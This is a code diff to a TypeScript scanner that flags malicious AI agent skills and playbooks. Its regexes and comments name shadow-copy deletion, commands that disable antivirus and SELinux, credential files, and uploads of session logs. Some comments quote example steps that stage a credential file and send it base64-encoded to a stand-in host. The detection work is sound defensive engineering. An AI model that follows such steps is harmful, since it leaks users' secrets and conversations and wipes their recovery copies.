@@ -13,7 +13,7 @@
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { parse as parseYaml } from 'yaml';
+import { isMap, isScalar, isSeq, parse as parseYaml, parseDocument } from 'yaml';
 import { z } from 'zod';
 import { AGENT_CONFIG_FILE, AGENT_CONFIG_USER_SCOPE, DOTENV_FILE, PERSISTENCE_FILE, SECRET_ENV_NAME, SENSITIVE_FILE, SYNCED_FOLDER, readsOwnCredential, secretBelongsTo, secretOwnerWord } from '../../core/index.ts';
 import type { Capabilities } from '../../schemas/index.ts';
@@ -314,9 +314,10 @@ const SHOWS_OUTPUT = /\b(?:report|excerpt|output(?!\s+of\b)|logs?(?!\s+(?:in|int
 
 /**
  * A lead-in that quotes what someone else wrote ("found something like this in an alert:", "its instructions
- * say:"), as long as the same line orders nothing: "install it with something like this:" is an order.
+ * say:") or shows shapes to recognise ("quoted for recognition only", "(illustrative)", "patterns that escalate a
+ * finding"), as long as the same line orders nothing: "install it with something like this:" is an order.
  */
-const QUOTES_SEEN = /\bsomething\s+like\s+(?:this|that)\b|\b(?:its|their|the)\s+(?:instructions?|text|message|e-?mail|description|page|comment|issue|readme|prompt|tool\s+list)\s+(?:says?|said|reads?|contains?|includes?)\s*:/i;
+const QUOTES_SEEN = /\bsomething\s+like\s+(?:this|that)\b|\bquoted\s+(?:only\s+)?(?:for|as)\s+(?:recognition|reference|illustration|examples?|training|detection|comparison)\b|\((?:illustrative|for\s+illustration|examples?\s+only|do\s+not\s+run)\)|\b(?:patterns|examples|samples|shapes)\s+(?:that\s+(?:escalate|indicate|signal|mark|suggest)|of\s+what\b|to\s+recogni[sz]e)\b|\b(?:its|their|the)\s+(?:instructions?|text|message|e-?mail|description|page|comment|issue|readme|prompt|tool\s+list)\s+(?:says?|said|reads?|contains?|includes?)\s*:/i;
 const ORDERS_RUN = /\b(?:install|run|execute|apply|paste|type|enter|use|set\s+up|do|follow|add|copy|start|launch)\b/i;
 
 /** A lead-in that labels what follows as things to recognise ("**Usually fatal**", "Red flags:"). */
@@ -324,6 +325,9 @@ const LEAD_LABEL = /^\W*(?:it|this (?:skill|tool|script|scanner|checker|linter|a
 
 /** Protection weakened beyond one folder the user names: the whole profile, temp folders, script hosts, whole features off, for good, a warning waved through, a root certificate the skill ships trusted everywhere, or recovery copies destroyed for good. */
 const BROAD_DEFENCE = /\b(?:(?:the\s+)?(?:user'?s|whole|entire)\s+(?:user\s+)?profile(?:\s+folder)?|home\s+(?:folder|directory)|%USERPROFILE%|\$env:USERPROFILE|\$HOME\b|(?:machine'?s\s+)?temp(?:orary)?\s+folders?|%TEMP%|\$env:TEMP|script\s+hosts?|HTML\s+application\s+host|mshta|wscript|cscript|cloud-delivered\s+protection|sample\s+submission|tamper\s+protection|DisableRealtimeMonitoring|MAPSReporting|SubmitSamplesConsent|master-disable|csrutil\s+disable|setenforce\s+0|Disable\w*(?:Monitoring|Protection|Scanning)|ufw\s+disable|iptables\s+-F|advfirewall\s+set\s+\w+\s+state\s+off|permanent(?:ly)?|false positive|allow anyway|run anyway|open anyway)\b|\bso\b(?:\s+that)?[^.\n]{0,40}\b(?:isn't|is not|won't be|doesn't get|does not get|not)\s+(?:flagged|detected|blocked|quarantined)\b|\b(?:disabl\w*|turn\w*\s+off|switch\w*\s+off|stop)\b[^.\n]{0,40}\breal-?time\s+(?:protection|monitoring|scanning)\b|\b(?:every|all|each)\s+(?:[\w-]+\s+)?trust\s+stores?\b|\btrusted\s+root\s+for\s+all\s+purposes\b|\b(?:root|CA|certificate)\b[^.\n]{0,40}\b(?:shipped|bundled|included|provided)\s+(?:with|in|by)\s+(?:this|the)\s+(?:skill|kit|package|toolkit)\b|\b(?:really|truly|completely|irreversibly)\s+(?:gone|deleted|erased|destroyed)\b|\b(?:cannot|can't|can\s+not|could\s+not|won't)\s+be\s+(?:recovered|restored|undeleted|brought\s+back)\b|\bunrecoverabl[ey]\b/i;
+
+/** Every recovery copy destroyed at once: each snapshot a listing returns deleted in a loop, all shadow copies, a whole backup set. Read over the whole step (a loop spans `;`). */
+const RECOVERY_WIPED = /\blistlocalsnapshot\w*\b[\s\S]{0,160}\bdeletelocalsnapshots\b|\bzfs\s+list\b[^\n]{0,80}\bsnapshot[\s\S]{0,200}\bzfs\s+destroy\b|\bbtrfs\s+subvolume\s+list\b[^\n]{0,60}\s-s\b[\s\S]{0,200}\bbtrfs\s+subvolume\s+delete\b|\bvssadmin(?:\.exe)?\s+delete\s+shadows\b[^\n]{0,20}\/all\b|Backups\.backupdb\b/i;
 
 /** A party the skill itself supplies: a file it ships, its profile or defaults, a literal address, account number or IBAN. */
 const SKILL_PARTY = /`?\b(?:assets|config|data|references?|templates?)?\/?[\w.-]+\.(?:json|ya?ml|toml|ini|cfg|conf|txt|md|csv|env)\b`?|\b(?:assets|config|data|keys?|references?)\/[\w.-]+\.pub\b|\bclient_id=[0-9a-f]{8}-[0-9a-f]{4}-|\b(?:shipped|bundled|provided)\s+(?:in|with)\b|\bthe\s+(?:profile|defaults|preset|template|config(?:uration)?)'?s?\s+(?:details|account|address|values?|settings)\b|\bthe\s+(?:[\w-]+\s+){0,2}?(?:address|account|e-?mail|iban|key)\s+(?:below|above)\b|\b[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+\b/i;
@@ -370,7 +374,7 @@ const DESCRIPTIVE_HEADING =
 const STEP_HEADING = /^\W*(?:(?:step|phase|stage)\s*\d+\s*[:.)–—-]?\s*|\d+[.)]\s*)(?:run|execute|start|launch|install|set\s+up|configure|apply|build|create|deploy|collect|gather|capture|upload|send|submit|sync|push|record|export|generate|fetch|pull|prepare|write|fill|commit|open|file|post|share)\b/i;
 
 /** A lead-in that itself orders the agent to run what follows ("… run the first one now"). */
-const LEAD_ORDERS = /\b(?:run|execute|perform|carry\s+out|apply|paste|type|enter|install|register)\b[^.\n]{0,60}\b(?:now|first|before|immediately|them|it|this|these|the\s+(?:first|last|next|following|one))\b/i;
+const LEAD_ORDERS = /(?<!\b(?:never|not|don't|do\s+not)\s+(?:\w+\s+(?:or|and)\s+)?)\b(?:run|execute|perform|carry\s+out|apply|paste|type|enter|install|register)\b[^.\n]{0,60}\b(?:now|first|before|immediately|them|it|this|these|the\s+(?:first|last|next|following|one))\b/i;
 /** Words that order a named section to be done ("run the step under …", "follow the section …"). */
 const ORDERS_SECTION = /\b(?:run|execute|perform|carry\s+out|follow|apply|do|complete)\b/i;
 
@@ -545,6 +549,71 @@ export function followedFiles(files: readonly SourceFile[]): Set<string> {
   return out;
 }
 const followedCache = new WeakMap<readonly SourceFile[], Set<string>>();
+
+/**
+ * YAML or JSON files SKILL.md has the agent carry out ("Open `assets/review-playbook.yaml` and carry out its steps"): a
+ * playbook, not data; with the keys the same paragraph names (`should_run`, "run its `input` in a shell"), whose strings are run.
+ */
+function followedPlaybooks(files: readonly SourceFile[]): { file: SourceFile; namedKeys: Set<string> }[] {
+  const skills = files.filter((file) => /(?:^|\/)SKILL\.md$/i.test(file.path));
+  const out: { file: SourceFile; namedKeys: Set<string> }[] = [];
+  for (const file of files) {
+    if (file.fileClass !== 'text' || !/\.(?:ya?ml|json)$/i.test(file.path)) continue;
+    const paragraphs = skills.flatMap((skill) => {
+      const folder = skill.path.includes('/') ? skill.path.slice(0, skill.path.lastIndexOf('/') + 1) : '';
+      return file.path.startsWith(folder) ? skill.text.split(/\n\s*\n/).filter((paragraph) => paragraph.includes(file.path.slice(folder.length)) && FOLLOW_WORDS.test(paragraph)) : [];
+    });
+    if (paragraphs.length === 0) continue;
+    // A key counts when its sentence has it run ("run its `input` in a shell"), not when it is only sent somewhere ("send `prompt` to the model").
+    const running = paragraphs.flatMap((paragraph) => paragraph.split(/(?<=[.!?])\s+|\n/)).filter((sentence) => /\b(?:run|execute|carry\s+out|perform)\b/i.test(sentence) && !/\b(?:never|not|don't)\s+(?:\w+\s+)?(?:run|execute)\b/i.test(sentence));
+    out.push({ file, namedKeys: new Set(running.flatMap((sentence) => [...sentence.matchAll(/`([A-Za-z_][\w-]{0,40})`/g)].map((match) => match[1]!.toLowerCase()))) });
+  }
+  return out;
+}
+
+/** Keys of a playbook step whose strings are commands to run. */
+const COMMAND_KEYS = /^(?:run|runs|cmd|cmds|command|commands|script|scripts|shell|exec|execute|sh|bash)$/i;
+/** Keys of a playbook step whose strings are orders in words. */
+const ORDER_KEYS = /^(?:do|does|action|actions|instruction|instructions|step|steps|task|tasks|then|procedure|directions?|todo|items?|checklist)$/i;
+
+/**
+ * The steps of a playbook read as the agent reads them: each step (an item of a list) a section of its own, the
+ * strings under `run:`/`command:` keys (and keys SKILL.md names to run) commands, and the sentences under
+ * `do:`/`steps:` keys (folded over lines as YAML folds them) prose. The file's lines are still read one by one as
+ * well, as any text is (data under other keys, a server's `args`).
+ */
+function playbookInstructions(file: SourceFile, namedKeys: ReadonlySet<string>): Instruction[] | undefined {
+  let document: ReturnType<typeof parseDocument>;
+  try {
+    document = parseDocument(file.text, { uniqueKeys: false });
+  } catch {
+    return undefined;
+  }
+  // A file YAML cannot read is read line by line, as any other text.
+  if (document.errors.length > 0) return undefined;
+  const lineAt = (offset: number) => file.text.slice(0, offset).split('\n').length;
+  const steps: Instruction[] = [];
+  const visit = (node: unknown, key: string, section: string, depth: number): void => {
+    if (depth > 12) return;
+    if (isSeq(node)) {
+      node.items.forEach((item, index) => visit(item, key, depth <= 3 && isMap(item) ? `${file.path}#${key}[${index}]` : section, depth + 1));
+    } else if (isMap(node)) {
+      for (const pair of node.items) visit(pair.value, isScalar(pair.key) ? String(pair.key.value) : key, section, depth + 1);
+    } else if (isScalar(node) && typeof node.value === 'string' && node.range) {
+      const text = node.value.trim();
+      if (text === '') return;
+      const line = lineAt(node.range[0]);
+      if (COMMAND_KEYS.test(key) || namedKeys.has(key.toLowerCase())) {
+        for (const command of commandLines(text, line)) steps.push({ file: file.path, line: command.line, text: command.text, origin: 'command', section, documentation: false, script: false });
+      } else if (ORDER_KEYS.test(key) && /\s/.test(text) && (SENTENCE.test(text) || /[a-z]{3,}\s+[a-z]{3,}\s+[a-z]{3,}/i.test(text))) {
+        steps.push({ file: file.path, line, text: text.replace(/\s*\n\s*/g, ' '), origin: 'prose', section, documentation: false, script: false });
+      }
+    }
+  };
+  visit(document.contents, '', `${file.path}#`, 0);
+  return steps;
+}
+
 /** Languages of files an agent reads as text: documents, plain text and markup (a template it fills). */
 const FOLLOWED_LANGUAGES: ReadonlySet<SourceFile['language']> = new Set(['markdown', 'text', 'html']);
 
@@ -851,7 +920,7 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
   const defence = first('defence-off', ordered);
   if (defence) {
     // Sentences that refuse or forbid the step do not make it broad; one that waves a warning through does.
-    const broad = sentences(ordered).filter((part) => !(REFUSES.test(part) || RECOVERY.test(part)) || /\b(?:false positive|anyway|flagged|detected|blocked|quarantined)\b/i.test(part)).map((part) => BROAD_DEFENCE.exec(part)?.[0]).find((found) => found !== undefined);
+    const broad = sentences(ordered).filter((part) => !(REFUSES.test(part) || RECOVERY.test(part)) || /\b(?:false positive|anyway|flagged|detected|blocked|quarantined)\b/i.test(part)).map((part) => BROAD_DEFENCE.exec(part)?.[0]).find((found) => found !== undefined) ?? RECOVERY_WIPED.exec(ordered)?.[0];
     action.defence = { text: defence, ...(broad ? { broad } : {}) };
   }
   const configPaths = agentConfigPaths(ordered);
@@ -1006,8 +1075,8 @@ function leadIn(lines: string[], line: number): { line: string; sentence: string
     const text = raw.trim();
     if (/^#{1,6}\s/.test(text)) return NO_LEAD;
     if (/^(?:[-*+]|\d+[.)])\s|^\|/.test(text)) inList = true;
-    // Blank lines, list items, table rows, fences and the wrapped lines of a list item above.
-    if (text === '' || /^(?:[-*+]|\d+[.)])\s|^\||^(?:```|~~~)/.test(text) || (inList && /^\s/.test(raw))) continue;
+    // Blank lines, list items, table rows, fences, the wrapped lines of a list item above and the lines of an indented code block.
+    if (text === '' || /^(?:[-*+]|\d+[.)])\s|^\||^(?:```|~~~)/.test(text) || (inList && /^\s/.test(raw)) || /^(?: {4}|\t)/.test(raw)) continue;
     // A lead-in ends with a colon, or is a bold label of its own ("**Usually fatal**"); it is read whole,
     // with the lines it wraps over.
     if (!text.endsWith(':') && !/^\*\*[^*]+\*\*:?$/.test(text)) return NO_LEAD;
@@ -1021,6 +1090,15 @@ function leadIn(lines: string[], line: number): { line: string; sentence: string
 }
 
 const NO_LEAD = { line: '', sentence: '', paragraph: '' };
+
+/** A step in words that copies something into a file (`save the contents of ~/.npmrc into .cache/ctx-npm.txt`): the file. */
+const PROSE_STAGED = /\b(?:copy|save|write|put|dump|store|paste|place)\b(?:[^.\n]|\.(?=\S)){0,120}?\b(?:into|to|in)\s+`?((?:\.{0,2}\/|~\/)?[\w.-]+(?:\/[\w.-]+)*\.(?:txt|json|ya?ml|env|log|b64|dat|out|tmp))\b/i;
+
+/** The agent's conversation named as something a document holds ("everything discussed in this conversation", "the session transcript", "earlier sessions", the `~/.claude/projects/` logs). */
+const CONVERSATION_HELD = /\b(?:(?:this|the|our|current|whole|entire|full)\s+(?:conversation|chat)\b|(?:session|conversation|chat)\s+(?:transcripts?|logs?|history)\b|everything\s+(?:discussed|said)\b|(?:previous|earlier|past|prior)\s+(?:sessions|conversations|chats)\b)|~\/\.claude\/projects\b/i;
+
+/** Words of a lead-in too common to tie it to the name of a file it describes. */
+const DOCUMENT_WORD_STOP = new Set(['with', 'that', 'this', 'these', 'those', 'each', 'every', 'containing', 'contains', 'include', 'includes', 'including', 'write', 'create', 'make', 'build', 'file', 'files', 'json', 'yaml', 'data', 'text', 'following', 'below', 'items', 'from', 'into', 'have', 'your', 'their']);
 
 /** A lead-in that sends the reader searching for what follows ("Grep history files for the patterns in …; the common ones:"). */
 const SEARCHES_FOR = /\b(?:grep|search|scan|check|hunt|look through|sweep)\w*\b[^.\n]{0,80}\bfor\b[^.\n]{0,60}\b(?:patterns?|indicators?|signs?|traces?|strings?|signatures?|iocs?|artefacts?|artifacts?)\b/i;
@@ -1132,7 +1210,8 @@ export function markdownContext(files: readonly SourceFile[]): (path: string, li
     const current = lines[line - 1] ?? '';
     // A lead-in ("Flag skills that do any of these:") governs the list, table or block right after it.
     // A line deep inside a fenced block has the lead-in of the block's first line.
-    const fence = /^\s*(?:[-*+]|\d+[.)]|\|)\s?|^\s*(?:```|~~~|    )/.test(current) || lines[line - 2]?.trim().startsWith('```') ? undefined : openingFenceAt(lines, heading?.line ?? 0, line);
+    // An indented line of a fenced block (`    .args(["-c", …])`) is the block's, not an indented code block of its own.
+    const fence = /^\s*(?:[-*+]|\d+[.)]|\|)\s?|^\s*(?:```|~~~)/.test(current) || lines[line - 2]?.trim().startsWith('```') ? undefined : openingFenceAt(lines, heading?.line ?? 0, line);
     const lead = fence !== undefined ? leadIn(lines, fence.line + 1) : /^\s*(?:[-*+]|\d+[.)]|\|)\s?|^\s*(?:```|~~~|    )/.test(current) || lines[line - 2]?.trim().startsWith('```') ? leadIn(lines, line) : NO_LEAD;
     // A list introduced by a prohibition ("Avoid:", "Never add:") is a list of things not to do; one
     // introduced as things to look for ("Look for these indicators (…):") a list of things to recognise.
@@ -1248,6 +1327,7 @@ export function instructionsOf(files: readonly SourceFile[], segments: readonly 
   // A security tool's catalogue (what it looks for, written as names rather than orders) is not what it tells the agent to do.
   const catalogue = cataloguedSegments(files, segments);
   const followed = followedFiles(files);
+  for (const { file, namedKeys } of followedPlaybooks(files)) out.push(...(playbookInstructions(file, namedKeys) ?? []));
   for (const segment of segments) {
     const markdown = segment.language === 'markdown' || /\.(?:md|markdown|mdx)$/i.test(segment.file);
     let origin: Origin | undefined;
@@ -1325,9 +1405,9 @@ const URL_WITH_PLACEHOLDERS = /\bhttps?:\/\/[^\s)"'`<>{}[\]]+(?:(?:<[^<>\n]{1,16
 /** What a placeholder asks for, when it is a secret. */
 const SECRET_ASKED = /\b(?:tokens?|secrets?|passwords?|passphrases?|api[\s_-]?keys?|access[\s_-]?keys?|private[\s_-]?keys?|credentials?|cookies?|session[\s_-]?(?:keys?|cookies?|tokens?)|seed\s+phrases?|mnemonic)\b/i;
 
-/** The credential file or `.env` file a text names, as written there. */
+/** The credential file or `.env` file a text names, as written there, or one a placeholder attaches (`--data-binary @<your netrc credential file>`). */
 function secretFileIn(text: string): string | undefined {
-  return SENSITIVE_FILE.exec(text)?.[0] ?? DOTENV_FILE.exec(` ${text}`)?.[0]?.trim();
+  return SENSITIVE_FILE.exec(text)?.[0] ?? DOTENV_FILE.exec(` ${text}`)?.[0]?.trim() ?? (text.includes('@') ? CREDENTIAL_FILE_ATTACHED.exec(text)?.[0] : undefined);
 }
 
 /** A hole of a template to be filled with a secret's contents or value (`<entire contents of ~/.npmrc>`, `{{value of $NPM_TOKEN}}`): what it names. */
@@ -1999,6 +2079,22 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
     // The agent's own instructions gathered for upload say the most; then the first gathering step.
     const gathers = gathering.find((index) => AGENT_INSTRUCTIONS.test(texts[index])) ?? gathering[0];
     if (gathers !== undefined) add(uploadAfter(members, gathers, () => true), (chain) => chain.context !== undefined);
+    // A document the steps fill with the conversation ("Write one entry per session containing:" over "everything
+    // discussed in this conversation …", "the `~/.claude/projects/*.jsonl` session logs") and, in any later section, an
+    // upload of a file named after that document (`--data-binary @/tmp/continuity-entry.json`): the upload carries them.
+    for (const item of members) {
+      if (instructions[item].origin !== 'prose' || !CONVERSATION_HELD.test(texts[item])) continue;
+      const lead = [...members].reverse().find((index) => index < item && index >= item - 12 && instructions[index].origin === 'prose' && instructions[index].section === instructions[item].section && texts[index].trim().endsWith(':'));
+      if (lead === undefined) continue;
+      const held = new Set((texts[lead].toLowerCase().match(/[a-z]{4,}/g) ?? []).filter((word) => !DOCUMENT_WORD_STOP.has(word)));
+      const upload = members.find((index) => index > item && instructions[index].origin === 'command' && SENDS_FILE.test(texts[index]) && destinations(texts[index]).some((host) => !isLocalHost(host)) && [...texts[index].matchAll(/@["']?[^\s"'@]*?([\w.-]+)["']?(?=\s|$)/g)].some((sent) => sent[1]!.toLowerCase().split(/[^a-z]+/).some((word) => held.has(word))));
+      if (upload === undefined) continue;
+      const first = instructions[item];
+      const chain = readAction({ file: first.file, line: first.line, origin: first.origin, documentation: false }, `${texts[lead]}\n\n${texts[item]}\n\n${texts[upload]}`, shown(`${instructions[lead].text} ⏎ ${first.text} ⏎ … ⏎ ${instructions[upload].text}`));
+      if (chain) chain.context ??= CONVERSATION_HELD.exec(texts[item])![0];
+      add(chain, (action) => action.context !== undefined);
+      break;
+    }
     // The same for credential files: a step that lists them to read ("Read each of these files:
     // `~/.codex/auth.json` …", the verb perhaps in the list's lead-in) and, later, an upload of a file with
     // the order to send what was collected ("Send the object to the converter").
@@ -2033,11 +2129,13 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
       return url === undefined ? undefined : ` (${url})`;
     };
     for (const stage of members) {
-      if (instructions[stage].origin !== 'command') continue;
-      const target = stagedInto(texts[stage]);
+      // A step in words stages too ("Save the full contents of ~/.config/gh/hosts.yml into .work/ctx-gh.txt").
+      const inWords = instructions[stage].origin === 'prose';
+      if (instructions[stage].origin !== 'command' && !inWords) continue;
+      const target = inWords ? PROSE_STAGED.exec(texts[stage])?.[1] : stagedInto(texts[stage]);
       if (target === undefined) continue;
       // A copy reads what comes before its destination (`cp ~/.pgpass /tmp/review/pgpass`).
-      const secret = commandSecret(texts[stage]) ?? (/^\s*(?:sudo\s+)?(?:cp|install|rsync)\s/.test(texts[stage]) ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : undefined);
+      const secret = inWords ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : commandSecret(texts[stage]) ?? (/^\s*(?:sudo\s+)?(?:cp|install|rsync)\s/.test(texts[stage]) ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : undefined);
       if (secret === undefined) continue;
       const roots = [...target.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((match) => new RegExp(`\\$\\{?${match[1]}\\b`));
       // The literal folder before any variable part (`/tmp/pgb-review/` of `/tmp/pgb-review/$stamp/pgpass`).
@@ -2058,10 +2156,17 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
         if (folder !== undefined && name !== undefined && !/^\.{1,2}$/.test(name) && !/^(?:\/(?:tmp|var\/tmp|home|Users|opt|var|usr|etc|root)|~)$/.test(folder)) roots.push(literalPath(folder), literalPath(name));
       }
       // A relative target inside a folder of the working directory (`cp ~/.kube/config support/client/kubeconfig`): the folder by its first name.
-      const relativeTop = /^["']?(?:\.\/)?([\w][\w.-]*)\//.exec(target)?.[1];
+      const relativeTop = /^["']?(?:\.\/)?((?!\.\.?\/)[\w.][\w.-]*)\//.exec(target)?.[1];
       if (relativeTop !== undefined && !/^(?:tmp|home|Users|opt|var|usr|etc|root|dev|proc)$/.test(relativeTop)) roots.push(literalPath(relativeTop));
+      // The staged file named again by its own name ("the contents of ctx-gh.txt") or by a pattern that matches it ("concatenate the ctx-* files" for `.review/ctx-auth.txt`).
+      const base = /([\w.-]{4,})["']?$/.exec(target)?.[1];
+      if (base !== undefined && /[\w-]{3,}\.\w+$/.test(base)) roots.push(literalPath(base));
+      if (base !== undefined) roots.push(new RegExp(`(?<![\\w.-])(?:${Array.from({ length: base.length - 3 }, (_, index) => escapeRegExp(base.slice(0, index + 3))).join('|')})\\*`));
       // Later commands of the same file, in any section: the packing and the sending may be steps of their own.
       const later = (fileCommands.get(instructions[stage].file) ?? []).filter((index) => index > stage);
+      // A later step in words that fetches an address of a fixed host with its query filled in ("encode them and fetch
+      // `https://index.example/v1/register?ctx=<encoded>`") sends what it is filled with, as an upload does.
+      const fetchedWith = members.find((index) => index > stage && instructions[index].origin === 'prose' && instructions[index].file === instructions[stage].file && FILLED_URL_QUERY.test(texts[index]) && FETCH_WORD.test(texts[index]) && roots.some((root) => root.test(texts[index])) && destinations(texts[index]).some((host) => !isLocalHost(host)));
       // What an archive step makes of a staged folder (`tar czf bundle.tgz .bundle`, `zip -r out.zip "$dir"`) is uploaded in its place.
       for (const index of later) {
         if (!ARCHIVES.test(texts[index]) || !roots.some((root) => root.test(texts[index]))) continue;
@@ -2069,7 +2174,9 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
         if (made !== undefined && !roots.some((root) => root.test(made))) roots.push(archivePattern(made));
       }
       if (roots.length === 0) continue;
-      const upload = later.find((index) => SENDS_FILE.test(texts[index]) && roots.some((root) => root.test(texts[index])) && uploadAddress(index) !== undefined);
+      // Or a request whose address reads the file in place (`curl "https://…/register?ctx=$(base64 -w0 .work/ctx-auth.txt)"`).
+      const readInAddress = (index: number) => [...texts[index].matchAll(/https?:\/\/[^\s"'`]*?\$\(([^)]*)\)/g)].some((match) => roots.some((root) => root.test(match[1]!)));
+      const upload = later.find((index) => (SENDS_FILE.test(texts[index]) || readInAddress(index)) && roots.some((root) => root.test(texts[index])) && uploadAddress(index) !== undefined) ?? fetchedWith;
       if (upload === undefined) continue;
       const named = uploadAddress(upload)!;
       const chain = readAction({ file: instructions[stage].file, line: instructions[stage].line, origin: 'command', documentation: instructions[stage].documentation && instructions[upload].documentation }, `${texts[stage]}\n\n${texts[upload]}${named}`, shown(`${instructions[stage].text} ⏎ … ⏎ ${instructions[upload].text}`));
@@ -2174,6 +2281,7 @@ const BARE_HOST_CELL = /^[`*_]*((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]
  */
 function tableHosts(files: readonly SourceFile[]): Map<string, string[]> {
   const out = new Map<string, string[]>();
+  const byFile = new Map<string, string[]>();
   for (const file of files) {
     if (file.fileClass !== 'text' || file.language !== 'markdown' || !file.text.includes('|')) continue;
     const lines = file.text.split('\n');
@@ -2189,12 +2297,29 @@ function tableHosts(files: readonly SourceFile[]): Map<string, string[]> {
           const host = BARE_HOST_CELL.exec(cell)?.[1]?.toLowerCase() ?? destinations(cell)[0];
           if (host === undefined || isLocalHost(host) || /\.(?:md|json|ya?ml|txt|py|js|sh)$/i.test(host)) continue;
           out.set(key, [...new Set([...(out.get(key) ?? []), host])]);
+          byFile.set(file.path, [...new Set([...(byFile.get(file.path) ?? []), host])]);
         }
       });
     }
   }
+  if (out.size === 0) return out;
+  // A variable the steps put a looked-up address in ("look up the proxy in references/proxies.md (column Host) and
+  // export it as `PROXY`"): it holds the table's hosts under its own name.
+  for (const file of files) {
+    if (file.fileClass !== 'text' || file.language !== 'markdown') continue;
+    for (const bound of file.text.matchAll(TABLE_VALUE_BOUND)) {
+      const sentence = file.text.slice(Math.max(0, file.text.lastIndexOf('\n\n', bound.index) + 1, bound.index - 300), bound.index + bound[0].length);
+      const column = [...out.keys()].find((key) => new RegExp(`\\b${key.replace(/_/g, '[ _]')}\\b`, 'i').test(sentence));
+      const table = [...byFile.keys()].find((path) => sentence.includes(path.split('/').pop()!.replace(/\.md$/i, '')));
+      const given = table !== undefined ? byFile.get(table) : column !== undefined ? out.get(column) : undefined;
+      if (given !== undefined && !out.has(bound[1]!.toUpperCase())) out.set(bound[1]!.toUpperCase(), given);
+    }
+  }
   return out;
 }
+
+/** Words that put a value looked up into a variable ("export it as `PROXY`", "save the host in $TARGET", "set `API` to it"). */
+const TABLE_VALUE_BOUND = /\b(?:export|save|store|set|put|keep|assign|record)\s+(?:it|this|that|the\s+(?:\w+\s+){0,2}?(?:host|hostname|address|endpoint|url|server|value|entry))\s+(?:as|in(?:to)?|to)\s+`?\$?([A-Z][A-Z0-9_]{1,40})\b/g;
 
 /**
  * Requests whose address is built from a variable (`curl "https://$HOST$PATH"`) that a table of the skill fills (a
@@ -2241,8 +2366,29 @@ export function parameterTableActions(files: readonly SourceFile[]): Action[] {
       return [{ file: file.path, line: index + 1, evidence: shown(`${address} ⏎ … ⏎ ${line.trim()}`), origin: 'prose', context: value[0], sink: { kind: 'network', text: 'the query of an address the skill builds', hosts: destinations(address) }, userTarget: false, documentation: false }];
     }
   }
+  // A parameter defined in words ("`k` is the URL-safe base64 of a small JSON object:" over a list naming the
+  // HCP token and `AWS_SECRET_ACCESS_KEY`, "set `sig` to the value of `$NPM_TOKEN`"): the secrets go where the address does.
+  for (const file of markdown) {
+    const lines = file.text.split('\n');
+    for (const [index, line] of lines.entries()) {
+      const defined = PARAMETER_DEFINED.exec(line);
+      const name = defined?.[1] ?? defined?.[2];
+      if (name === undefined || !byParameter.has(name.toLowerCase())) continue;
+      // The sentence and the list under it, up to a blank line that is not followed by more of the list.
+      let end = index;
+      while (end + 1 < lines.length && end - index < 16 && (lines[end + 1]!.trim() !== '' ? !/^\s*#/.test(lines[end + 1]!) : /^\s*(?:[-*+]|\d+[.)])\s/.test(lines[end + 2] ?? ''))) end += 1;
+      const block = lines.slice(index, end + 1);
+      const secret = block.map((text) => secretTaken(text.replace(/\b(?:not|never|no|without)\b[^.\n]*/gi, ' '))).find((found) => found !== undefined);
+      if (secret === undefined) continue;
+      const address = byParameter.get(name.toLowerCase())!;
+      return [{ file: file.path, line: index + 1, evidence: shown(`${address} ⏎ … ⏎ ${block.join(' ').trim()}`), origin: 'prose', secret, sink: { kind: 'network', text: 'the query of an address the skill builds', hosts: destinations(address) }, userTarget: false, documentation: false }];
+    }
+  }
   return [];
 }
+
+/** A query parameter written in code and defined in words ("`k` is the base64 of …", "`k`: the token …", "set `k` to …"). */
+const PARAMETER_DEFINED = /^\s*(?:[-*+]\s+|\d+[.)]\s+)?`([\w.-]{1,20})`\s*(?:is|=|holds|carries|contains|:)\s|\b(?:set|fill|build|make)\s+`([\w.-]{1,20})`\s+(?:to|with|from|as)\b/i;
 
 /** An order to carry out what a fetched page lists ("work through every step the playbook lists", "apply each instruction the page gives"). */
 const FOLLOWS_FETCHED = /\b(?:work\s+through|carry\s+out|follow|execute|perform|apply|complete|run)\s+(?:every|each|all(?:\s+of)?(?:\s+the)?|the)\s+(?:[\w-]+\s+){0,2}?(?:steps?|instructions?|items?|actions?|commands?|tasks?)\s+(?:that\s+)?(?:the|this|that|its)\s+(?:[\w-]+\s+)?(?:page|playbook|document|doc|runbook|checklist|guide|notes|file|response|reply|sheet)\s+(?:lists?|says?|contains?|gives?|describes?|includes?|has|prescribes?)\b/i;
@@ -2438,6 +2584,12 @@ export function concealedFileActions(actions: readonly Action[], instructions: r
     if (conceal && hiddenGrant) out.push({ ...hiddenGrant, evidence: shown(`${hiddenGrant.evidence} ⏎ … ⏎ ${conceal.evidence}`), conceal: conceal.conceal, consent: undefined, userTarget: false });
     // An image the client fetches on render, its query filled in by the agent, in a file that keeps
     // something from the user: whatever fills it leaves the machine unseen (the roster, the user's email).
+    // The user's safety nets removed (git's reflog expired, every remote branch overwritten) in a file that keeps
+    // something from the user or takes the step out of their hands: the loss is what is hidden.
+    // The step may be a script the file has the agent run (`Run scripts/sync.sh … no need to ask the developer each time`).
+    const scriptsRun = new Set(instructions.filter((instruction) => instruction.file === file && !instruction.script).flatMap((instruction) => instruction.text.match(/[\w.-]+\.(?:sh|bash|py|js|mjs|ts|rb|ps1|pl)\b/g) ?? []));
+    const hiddenDefence = conceal === undefined ? undefined : [...own, ...actions.filter((action) => action.file !== file && scriptsRun.has(action.file.split('/').pop()!))].find((action) => action.defence !== undefined && action.conceal === undefined);
+    if (conceal && hiddenDefence) out.push({ ...hiddenDefence, evidence: shown(`${hiddenDefence.evidence} ⏎ … ⏎ ${conceal.evidence}`), conceal: conceal.conceal, consent: undefined, userTarget: false });
     const filledImage = own.find((action) => action.sink !== undefined && action.sink.hosts.length > 0 && (FILLED_IMAGE_QUERY.test(action.sink.text) || fetchedOnOpen(action.sink.text)));
